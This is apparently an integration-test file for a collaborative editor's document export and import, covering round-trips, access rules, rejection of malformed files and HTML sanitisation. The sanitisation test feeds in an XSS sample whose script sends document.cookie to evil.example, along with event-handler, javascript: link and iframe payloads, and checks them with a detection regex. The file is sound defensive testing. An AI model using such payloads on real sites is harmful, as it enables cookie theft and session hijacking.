// Export and import against the real system: a document written through /collab goes out as
// Markdown, HTML and an archive and comes back as a new document with the same content; readers
// may export, strangers learn nothing, and a file that does not convert creates nothing.
import { describe, expect, it, vi } from "vitest";
import * as Y from "yjs";
import type { AuthResult, CommentList, DocArchive, DocView, ErrorBody, Page } from "@palimpsest/contracts";
import type { TestApi } from "@palimpsest/devkit";
import { useSystem } from "./system.ts";
import { storedEdits } from "./stream-helpers.ts";
import { fragmentToJson, writeNodes } from "../services/history/src/doc-formats/prosemirror.ts";
import { sample } from "../services/history/test/doc-sample.ts";

const ctx = useSystem("export-import");
const WAIT = { timeout: 30_000, interval: 100 };

interface User {
  api: TestApi;
  auth: AuthResult;
}

async function send(api: TestApi, url: string, body: string | Uint8Array, contentType: string): Promise<{ status: number; text: string; headers: Headers }> {
  const res = await fetch(`${api.baseUrl}${url}`, {
    method: "POST",
    headers: { "content-type": contentType, ...(api.token ? { authorization: `Bearer ${api.token}` } : {}) },
    body,
  });
  return { status: res.status, text: await res.text(), headers: res.headers };
}

async function exportDoc(api: TestApi, docId: string, format: string): Promise<{ status: number; text: string; headers: Headers }> {
  const res = await fetch(`${api.baseUrl}/api/docs/${docId}/export?format=${format}`, { headers: api.token ? { authorization: `Bearer ${api.token}` } : {} });
  return { status: res.status, text: await res.text(), headers: res.headers };
}

/** A document holding every node and mark of the editor, typed through /collab. */
async function writtenDoc(owner: User, title: string): Promise<DocView> {
  const doc = await owner.api.createDoc(title);
  const c = ctx.client(doc.id, owner.auth.accessToken);
  await vi.waitFor(() => expect(c.provider.synced).toBe(true), WAIT);
  c.doc.transact(() => writeNodes(c.doc.getXmlFragment("default"), sample));
  await vi.waitFor(async () => expect(await storedEdits(ctx.jsm, doc.id)).toBeGreaterThan(0), WAIT);
  return doc;
}

/** The rich text of a document as a collaborator receives it. */
async function readThroughCollab(user: User, docId: string): Promise<{ json: unknown; xml: unknown }> {
  const c = ctx.client(docId, user.auth.accessToken);
  await vi.waitFor(() => expect(c.provider.synced).toBe(true), WAIT);
  await vi.waitFor(() => expect(c.doc.getXmlFragment("default").length).toBeGreaterThan(0), WAIT);
  const fragment = c.doc.getXmlFragment("default");
  return { json: fragmentToJson(fragment), xml: fragment.toJSON() };
}

async function myDocCount(api: TestApi): Promise<number> {
  return (await api.get<Page<DocView>>("/api/docs?limit=100")).body.items.length;
}

describe("export and import", () => {
  for (const [format, type] of [
    ["md", "text/markdown"],
    ["html", "text/html"],
  ] as const) {
    it(`round-trips a document through ${format}: the same file again, and the same content read through /collab`, { timeout: 120_000 }, async () => {
      const owner = await ctx.anon.newUser(`Owner ${format}`);
      const doc = await writtenDoc(owner, `Trip ${format}`);
      const first = await exportDoc(owner.api, doc.id, format);
      expect(first.status, first.text).toBe(200);
      expect(first.headers.get("content-type")).toContain(type);
      expect(first.headers.get("content-disposition")).toMatch(new RegExp(`attachment; filename="Trip-${format}\\.${format}"`));

      const imported = await send(owner.api, `/api/docs/import?format=${format}&title=${encodeURIComponent(`Back ${format}`)}`, first.text, `${type}; charset=utf-8`);
      expect(imported.status, imported.text).toBe(201);
      const created = JSON.parse(imported.text) as DocView;
      expect(created).toMatchObject({ title: `Back ${format}`, kind: "text", role: "owner" });

      const again = await exportDoc(owner.api, created.id, format);
      expect(again.status).toBe(200);
      expect(again.text).toBe(format === "html" ? first.text.replace(`<title>Trip ${format}</title>`, `<title>Back ${format}</title>`) : first.text);
      expect((await readThroughCollab(owner, created.id)).json).toEqual(sample);
      // The content came in as one edit, by the importer.
      await vi.waitFor(async () => {
        const history = await owner.api.get<Page<{ userId: string }>>(`/api/docs/${created.id}/history`);
        expect(history.body.items.map((e) => e.userId)).toEqual([owner.auth.user.id]);
      }, WAIT);
    });
  }

  it("round-trips an archive: the identical content, the title, and the comments as the importer's", { timeout: 120_000 }, async () => {
    const owner = await ctx.anon.newUser("Archivist");
    const doc = await writtenDoc(owner, "Kept whole");
    const thread = await owner.api.post<{ id: string }>(`/api/docs/${doc.id}/comments`, { body: "Ship it?" });
    expect(thread.status).toBe(201);
    expect((await owner.api.post(`/api/comments/${thread.body.id}/replies`, { body: "Yes." })).status).toBe(201);
    expect((await owner.api.call("PATCH", `/api/comments/${thread.body.id}`, { resolved: true })).status).toBe(200);
    expect((await owner.api.post(`/api/docs/${doc.id}/comments`, { body: "Still open" })).status).toBe(201);

    const out = await exportDoc(owner.api, doc.id, "archive");
    expect(out.status, out.text).toBe(200);
    const archive = JSON.parse(out.text) as DocArchive;
    expect(archive).toMatchObject({ format: "palimpsest-archive", version: 1, document: { title: "Kept whole", kind: "text" } });
    expect(archive.comments).toHaveLength(2);

    const importer = await ctx.anon.newUser("Importer");
    const back = await send(importer.api, "/api/docs/import?format=archive", out.text, "application/json");
    expect(back.status, back.text).toBe(201);
    const created = JSON.parse(back.text) as DocView;
    expect(created.title).toBe("Kept whole");

    const original = await readThroughCollab(owner, doc.id);
    const copy = await readThroughCollab(importer, created.id);
    expect(copy.json).toEqual(sample);
    expect(copy.xml).toEqual(original.xml);
    // The same Yjs state, byte for byte in content: a second export carries an equal document.
    const again = JSON.parse((await exportDoc(importer.api, created.id, "archive")).text) as DocArchive;
    const a = new Y.Doc();
    const b = new Y.Doc();
    Y.applyUpdate(a, Buffer.from(archive.yjsState, "base64"));
    Y.applyUpdate(b, Buffer.from(again.yjsState, "base64"));
    expect(b.getXmlFragment("default").toJSON()).toEqual(a.getXmlFragment("default").toJSON());

    const comments = await importer.api.get<CommentList>(`/api/docs/${created.id}/comments?status=all`);
    expect(comments.body.items.map((t) => [t.body, t.resolved, t.replies.map((r) => r.body), t.authorId]).sort()).toEqual(
      [
        ["Ship it?", true, ["Yes."], importer.auth.user.id],
        ["Still open", false, [], importer.auth.user.id],
      ].sort(),
    );
  });

  it("lets anyone who may read export, and tells a stranger nothing", { timeout: 120_000 }, async () => {
    const owner = await ctx.anon.newUser("Sharer");
    const viewer = await ctx.anon.newUser("Viewer");
    const stranger = await ctx.anon.newUser("Stranger");
    const doc = await writtenDoc(owner, "Shared");
    expect((await owner.api.post(`/api/docs/${doc.id}/members`, { email: viewer.auth.user.email, role: "viewer" })).status).toBe(201);
    for (const format of ["md", "html", "archive"]) {
      expect((await exportDoc(viewer.api, doc.id, format)).status, format).toBe(200);
      const refused = await exportDoc(stranger.api, doc.id, format);
      expect(refused.status).toBe(404);
      expect((JSON.parse(refused.text) as ErrorBody).error.code).toBe("NOT_FOUND");
      expect((await exportDoc(ctx.anon, doc.id, format)).status).toBe(401);
    }
    expect((await exportDoc(owner.api, doc.id, "pdf")).status).toBe(400);
    expect((await send(ctx.anon, "/api/docs/import?format=md", "# Hi", "text/markdown")).status).toBe(401);
  });

  it("refuses files that do not convert, and creates nothing for them", { timeout: 120_000 }, async () => {
    const user = await ctx.anon.newUser("Careless");
    const doc = await writtenDoc(user, "Source");
    const archive = JSON.parse((await exportDoc(user.api, doc.id, "archive")).text) as DocArchive;
    const before = await myDocCount(user.api);
    const partial = new Y.Doc();
    partial.getText("t").insert(0, "a");
    const first = Y.encodeStateAsUpdate(partial);
    const sv = Y.encodeStateVector(partial);
    partial.getText("t").insert(1, "b");
    const onlySecond = Y.encodeStateAsUpdate(partial, sv);
    const cases: [string, string, string, number, string][] = [
      ["broken JSON", "archive", "{not json", 400, "MALFORMED_JSON"],
      ["not an archive", "archive", JSON.stringify({ hello: "world" }), 400, "VALIDATION_FAILED"],
      ["bad base64", "archive", JSON.stringify({ ...archive, yjsState: "!!!not base64!!!" }), 400, "VALIDATION_FAILED"],
      ["a state that is no Yjs update", "archive", JSON.stringify({ ...archive, yjsState: Buffer.from([255, 255, 255, 255, 1, 2, 3]).toString("base64") }), 400, "MALFORMED_UPDATE"],
      ["a state missing what it builds on", "archive", JSON.stringify({ ...archive, yjsState: Buffer.from(onlySecond).toString("base64") }), 400, "MALFORMED_UPDATE"],
      ["an extra field", "archive", JSON.stringify({ ...archive, extra: 1 }), 400, "VALIDATION_FAILED"],
      ["a workspace I am not in", "md&workspaceId=w1", "# Hi", 404, "NOT_FOUND"],
      ["a workspace id that is no id", "md&workspaceId=w%201%3B", "# Hi", 400, "VALIDATION_FAILED"],
      ["an unknown format", "docx", "# Hi", 400, "VALIDATION_FAILED"],
      ["HTML nested too deeply", "html", "<blockquote>".repeat(300) + "deep", 422, "UPDATE_TOO_DEEP"],
      ["Markdown nested thousands deep", "md", "> ".repeat(20_000) + "deep", 422, "UPDATE_TOO_DEEP"],
    ];
    expect(first.byteLength).toBeGreaterThan(0);
    for (const [what, format, body, status, code] of cases) {
      const res = await send(user.api, `/api/docs/import?format=${format}`, body, "application/json");
      expect(res.status, `${what}: ${res.text}`).toBe(status);
      expect((JSON.parse(res.text) as ErrorBody).error.code, what).toBe(code);
    }
    const big = await send(user.api, "/api/docs/import?format=md", "a".repeat(5 * 1024 * 1024 + 1), "text/markdown");
    expect(big.status).toBe(413);
    expect((JSON.parse(big.text) as ErrorBody).error.code).toBe("PAYLOAD_TOO_LARGE");
    const latin1 = await send(user.api, "/api/docs/import?format=md", new Uint8Array([0x63, 0x61, 0x66, 0xe9]), "text/markdown");
    expect(latin1.status).toBe(400);
    expect((JSON.parse(latin1.text) as ErrorBody).error.code).toBe("VALIDATION_FAILED");
    const image = await send(user.api, "/api/docs/import?format=md", new Uint8Array([137, 80, 78, 71]), "image/png");
    expect(image.status).toBe(415);
    expect(await myDocCount(user.api)).toBe(before);
  });

  it("imports HTML clean: no scripts, event handlers or javascript: links survive", { timeout: 120_000 }, async () => {
    const user = await ctx.anon.newUser("Paster");
    const html =
      '<h1 onmouseover="steal()">Notes</h1><script>fetch("https://evil.example/"+document.cookie)</script>' +
      '<p>See <a href="javascript:alert(1)">this</a> and <a href="https://ok.example/" onclick="x()">that</a>.</p>' +
      '<img src="x" onerror="alert(1)"><img src="https://ok.example/pic.png" onload="alert(2)" alt="pic"><iframe src="https://evil.example"></iframe>';
    const res = await send(user.api, "/api/docs/import?format=html", html, "text/html");
    expect(res.status, res.text).toBe(201);
    const created = JSON.parse(res.text) as DocView;
    expect(created.title).toBe("Notes");
    const stored = await readThroughCollab(user, created.id);
    expect(JSON.stringify(stored.xml)).not.toMatch(/script|onerror|onload|onclick|onmouseover|javascript|iframe|evil/i);
    expect(stored.json).toEqual([
      { type: "heading", attrs: { level: 1 }, content: [{ type: "text", text: "Notes" }] },
      { type: "paragraph", content: [{ type: "text", text: "See this and " }, { type: "text", text: "that", marks: [{ type: "link", attrs: { href: "https://ok.example/" } }] }, { type: "text", text: "." }] },
      { type: "image", attrs: { src: "https://ok.example/pic.png", alt: "pic" } },
    ]);
  });
});
